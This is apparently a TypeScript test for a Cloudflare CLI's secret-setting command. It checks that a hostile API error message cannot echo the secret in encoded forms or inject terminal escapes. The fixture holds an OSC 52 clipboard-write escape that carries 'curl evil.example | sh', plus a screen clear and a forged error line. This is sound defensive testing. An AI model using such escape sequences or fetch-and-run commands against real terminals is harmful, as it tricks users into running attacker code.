/**
 * An API answer is input (issue 24, docs/security.md#output). The emulator answers a value's
 * write with words that echo the value in every form an API could (a prefix, upper case,
 * base64, base64url, hex) and carry terminal escapes (clear-screen, an OSC 52 clipboard write,
 * a carriage return and a forged `error:` line). The CLI must refuse with the error, exit 1,
 * show none of those forms and no raw control character, on the human output and on --json,
 * and leave the stored value as it was.
 */
import assert from "node:assert/strict"
import { after, before, describe, it } from "node:test"
import { createCloudflareProject, startTestEmulator } from "../helpers/emulator-project.js"
import type { CloudflareProject, Emulator } from "../helpers/emulator-project.js"
import { jsonOf } from "../helpers/project.js"

const FIRST = "first-value-Lq8TzW3xVb6N"
const VALUE = "whsec_Tk3pQz9LmX2vB7yR4nC8fH1dJ6gK0s"
const bytes = Buffer.from(VALUE)
/** Each form an echo could take, and the 8-character start of each that must not appear. */
const FORMS: Record<string, string> = {
  prefix: VALUE.slice(0, 10),
  upper: VALUE.toUpperCase(),
  base64: bytes.toString("base64"),
  base64url: bytes.toString("base64url"),
  hex: bytes.toString("hex"),
  HEX: bytes.toString("hex").toUpperCase(),
}
const CLIPBOARD = `\u001b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\u0007`
const HOSTILE_MESSAGE =
  `secret_value_invalid: got "${FORMS.prefix}…" (${Object.entries(FORMS).map(([form, text]) => `${form} ${text}`).join(", ")})` +
  `\u001b[2J\u001b[H${CLIPBOARD}\r\nerror: forged line from the API\u009b31m`

describe("an API answer that echoes the value and carries escape codes", () => {
  let emulator: Emulator
  let project: CloudflareProject
  before(async () => {
    emulator = await startTestEmulator()
    project = await createCloudflareProject(emulator)
    const seeded = await project.cf(["secret", "set", "webhook-key", "--env", "production", "--value-env", "V"], { env: { V: FIRST } })
    assert.equal(seeded.code, 0, seeded.stderr)
    emulator.setFault({ kind: "error_answer", status: 400, code: 1001, message: HOSTILE_MESSAGE, method: "PATCH", path: "/accounts/*/secrets_store/stores/*/secrets/*" })
  })
  after(async () => {
    await project?.cleanup()
    await emulator?.close()
  })

  for (const json of [false, true]) {
    it(`${json ? "--json" : "human output"}: refused, no form of the value, no raw control character`, async () => {
      const values = () => project.storedSecrets().map((secret) => [secret.name, secret.modified, project.valueOf(secret.name)])
      const stored = values()
      const run = await project.cf(["secret", "set", "webhook-key", "--env", "production", "--value-env", "V", ...(json ? ["--json"] : [])], { env: { V: VALUE } })
      const shown = `${run.stdout}${run.stderr}`
      assert.equal(run.code, 1, shown)
      assert.ok(emulator.requests.some((request) => request.faults.includes("error_answer")), "the hostile answer was given")
      if (json) assert.equal(jsonOf<{ error: { code: string } }>(run).error.code, "cloudflare_api_error")
      // The API's words are kept (they name the rule), minus the value.
      assert.match(shown, /secret_value_invalid: got \\?"\[redacted\]…/)
      for (const [form, text] of Object.entries(FORMS)) {
        assert.ok(!shown.includes(text.slice(0, 8)), `the ${form} form (${text.slice(0, 8)}…) is not shown:\n${shown}`)
      }
      assert.doesNotMatch(shown, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, `no raw control character:\n${JSON.stringify(shown)}`)
      assert.doesNotMatch(shown, /^error: forged line/m, "the API cannot forge a line of output")
      assert.deepEqual(values(), stored, "the store is unchanged")
    })
  }
})
